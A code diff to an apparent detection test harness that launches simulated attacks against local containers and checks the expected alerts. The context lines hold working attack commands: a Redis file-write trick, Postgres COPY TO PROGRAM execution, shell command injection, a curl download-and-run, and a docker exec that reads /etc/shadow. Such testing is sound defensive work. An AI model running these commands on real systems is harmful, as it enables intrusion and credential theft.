@@ -212,20 +212,20 @@ def attack_redis_file_outside(state):
     redis_cli(state, "SAVE")
     redis_cli(state, "CONFIG", "SET", "dir", "/var/lib/redis")
     redis_cli(state, "CONFIG", "SET", "dbfilename", "dump.rdb")
-    return {"container": "redis", "expect": ["/tmp/"]}
+    return {"container": "redis", "expect": ["/tmp/temp-", "/tmp/pwned.php"]}
 
 
 def attack_postgres_program(state):
     """A database superuser made to run a command: COPY ... TO PROGRAM."""
     run(["psql", "-h", "127.0.0.1", "-p", str(state["ports"]["postgres"]), "-U", "postgres", "-c",
          "COPY (SELECT 1) TO PROGRAM 'id > /tmp/pg-owned'", "postgres"], check=False)
-    return {"container": "postgres", "expect": ["sh", "server-shell"]}
+    return {"container": "postgres", "expect": ["server-shell"]}
 
 
 def attack_web_injection(state):
     """Command injection into the web app: a program it never runs."""
     inject(state, "id; uname -a")
-    return {"container": "app", "expect": ["id"]}
+    return {"container": "app", "expect": ["/usr/bin/id", "/usr/bin/uname"]}
 
 
 def attack_reverse_shell(state):
@@ -241,7 +241,7 @@ def attack_download_run(state):
     port, t = file_server(b"#!/bin/sh\necho owned > /tmp/owned\n")
     inject(state, f"curl -s -o /tmp/.x http://127.0.0.1:{port}/x; chmod +x /tmp/.x; /tmp/.x")
     t.join(10)
-    return {"container": "app", "expect": ["/tmp/.x", "curl"]}
+    return {"container": "app", "expect": ["/tmp/.x", "/usr/bin/curl"]}
 
 
 def attack_docker_exec(state):
@@ -249,7 +249,7 @@ def attack_docker_exec(state):
     name = state["containers"]["nginx"]
     run(["script", "-qec", f"docker exec -it {name} bash -c 'id; cat /etc/shadow; exit'", "/dev/null"],
         check=False, stdin=subprocess.DEVNULL)
-    return {"container": "nginx", "expect": ["bash", "shadow"]}
+    return {"container": "nginx", "expect": ["/etc/shadow", "terminal-shell", "/dev/tty"]}
 
 
 ATTACKS = {
